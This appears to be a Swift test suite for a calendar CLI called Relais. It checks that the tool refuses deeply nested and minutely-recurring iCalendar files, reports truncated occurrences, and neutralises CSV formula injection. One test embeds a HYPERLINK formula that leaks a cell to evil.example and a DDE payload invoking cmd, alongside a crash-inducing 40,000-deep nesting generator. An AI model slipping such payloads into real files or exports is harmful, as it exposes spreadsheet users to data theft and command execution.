// What no file can do to Relais (issue 11): crash it by nesting, slip a minutely rule past it, hide
// occurrences without a word, or run a formula in a coordinator's spreadsheet.

import Foundation
import Testing

@Suite struct TrustCLITests {
    /// The issue's file: 40,000 nested X-FOO components in 1 MB, which crashed relais (SIGSEGV).
    static func nestedCalendar(depth: Int = 40_000) -> String {
        "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//a//b//EN\r\nX-RELAIS-CAMPAIGN:nest\r\nX-RELAIS-FA:7\r\n"
            + String(repeating: "BEGIN:X-FOO\r\n", count: depth) + String(repeating: "END:X-FOO\r\n", count: depth)
            + "END:VCALENDAR\r\n"
    }

    @Test func aCalendarNested40000DeepIsRefusedWithItsLineAndChangesNothing() throws {
        let workspace = Workspace()
        #expect(try workspace.relais("campaigns", "load", workspace.write("good.ics", calendar(event(uid: "a@t", start: "20270330T090000", end: "20270330T100000")))).status == 0)
        let before = try workspace.dump()
        for (name, text) in [
            ("nest.ics", Self.nestedCalendar()),
            ("alarms.ics", calendar(String(repeating: "BEGIN:VALARM\n", count: 5_000) + String(repeating: "END:VALARM\n", count: 5_000))),
        ] {
            let result = try workspace.relais("campaigns", "load", workspace.write(name, text))
            #expect(result.status == 65, "\(result.errors)")
            #expect(result.errors.contains("\(name):") && result.errors.contains("more than 64 deep"), "\(result.errors)")
        }
        #expect(try workspace.dump() == before)
    }

    @Test func aRuleWithOccurrencesLessThanAnHourApartIsRefusedWhateverItsFrequency() throws {
        let workspace = Workspace()
        let minutes = (0..<60).map(String.init).joined(separator: ",")
        let rule = "RRULE:FREQ=YEARLY;BYMONTH=3;BYHOUR=9;BYMINUTE=\(minutes);BYSECOND=\(minutes)"
        let file = workspace.write("minutely.ics", calendar(event(uid: "m@t", start: "20270301T090000", end: "20270301T100000", extra: rule)))
        let result = try workspace.relais("campaigns", "load", file)
        #expect(result.status == 65)
        // The RRULE is line 16: 5 calendar lines, BEGIN:VEVENT, then the event's 9 lines.
        #expect(result.errors.contains("minutely.ics:16: occurrences at 2027-03-01 09:00:00 and 2027-03-01 09:00:01 are less than an hour apart"), "\(result.errors)")
        #expect((try workspace.json(workspace.relais("campaigns", "list", "--json")) as? [Any])?.isEmpty == true)
    }

    @Test func occurrencesCutByTheHorizonOrTheCapAreSaidWhenLoadingAndListing() throws {
        let workspace = Workspace()
        let daily = event(uid: "daily@t", start: "20270301T090000", end: "20270301T100000", extra: "RRULE:FREQ=DAILY;COUNT=1000000")
        var hourly = event(uid: "hourly@t", start: "20270301T090000", end: "20270301T093000", extra: "RRULE:FREQ=HOURLY")
        hourly = hourly.replacingOccurrences(of: "SUMMARY:Dépistage Mars bleu", with: "SUMMARY:Permanence")
        let bounded = event(uid: "bounded@t", start: "20270301T090000", end: "20270301T100000", extra: "RRULE:FREQ=WEEKLY;COUNT=3")
        let file = workspace.write("cut.ics", calendar(daily, hourly, bounded))
        let result = try workspace.relais("campaigns", "load", file)
        #expect(result.status == 0, "\(result.errors)")
        #expect(result.errors.contains("cut.ics:6: daily@t (Dépistage Mars bleu) repeats after 2029-02-28 09:00"), "\(result.errors)")
        #expect(result.errors.contains("horizon_days = 730"))
        #expect(result.errors.contains("hourly@t (Permanence) repeats after") && result.errors.contains("at most 10000 occurrences per event"))
        #expect(!result.errors.contains("bounded@t"))
        let listing = try workspace.relais("events", "list", "--campaign", "test-2027", "--from", "2029-01-01")
        #expect(listing.errors.contains("daily@t (Dépistage Mars bleu) repeats after 2029-02-28 09:00, but its later occurrences are not generated"), "\(listing.errors)")
        let early = try workspace.relais("events", "list", "--from", "2027-03-01", "--to", "2027-03-02")
        #expect(!early.errors.contains("daily@t"), "nothing is hidden before the last occurrence generated: \(early.errors)")
    }

    @Test func everyReportCellThatASpreadsheetWouldRunIsNeutralised() throws {
        let workspace = Workspace()
        let hostile = event(uid: "x@t", start: "20270301T090000", end: "20270301T100000").replacingOccurrences(
            of: "SUMMARY:Dépistage Mars bleu", with: "SUMMARY:=HYPERLINK(\"http://evil.example/?\"&A1\\,\"click\")")
            .replacingOccurrences(of: "LOCATION:Salle des fêtes\\, Gex", with: "LOCATION:@SUM(1+1)*cmd|' /C calc'!A0")
        #expect(try workspace.relais("campaigns", "load", workspace.write("x.ics", calendar(hostile))).status == 0)
        let report = try workspace.relais("report", "fa7", "--year", "2027", "--unmasked", "--format", "csv", environment: ["RELAIS_NOW": "2027-06-01T10:00"])
        #expect(report.status == 0, "\(report.errors)")
        let cells = report.output.split(whereSeparator: { $0 == "\r\n" || $0 == "\n" }).flatMap { $0.split(separator: ";", omittingEmptySubsequences: false) }
            .map { $0.hasPrefix("\"") ? String($0.dropFirst()) : String($0) }
        #expect(cells.contains { $0.hasPrefix("'=HYPERLINK(") }, "the event is in the report, neutralised")
        #expect(!cells.contains { $0.first.map { "=+-@\t\r".contains($0) } ?? false }, "\(cells.filter { $0.hasPrefix("=") })")
    }
}
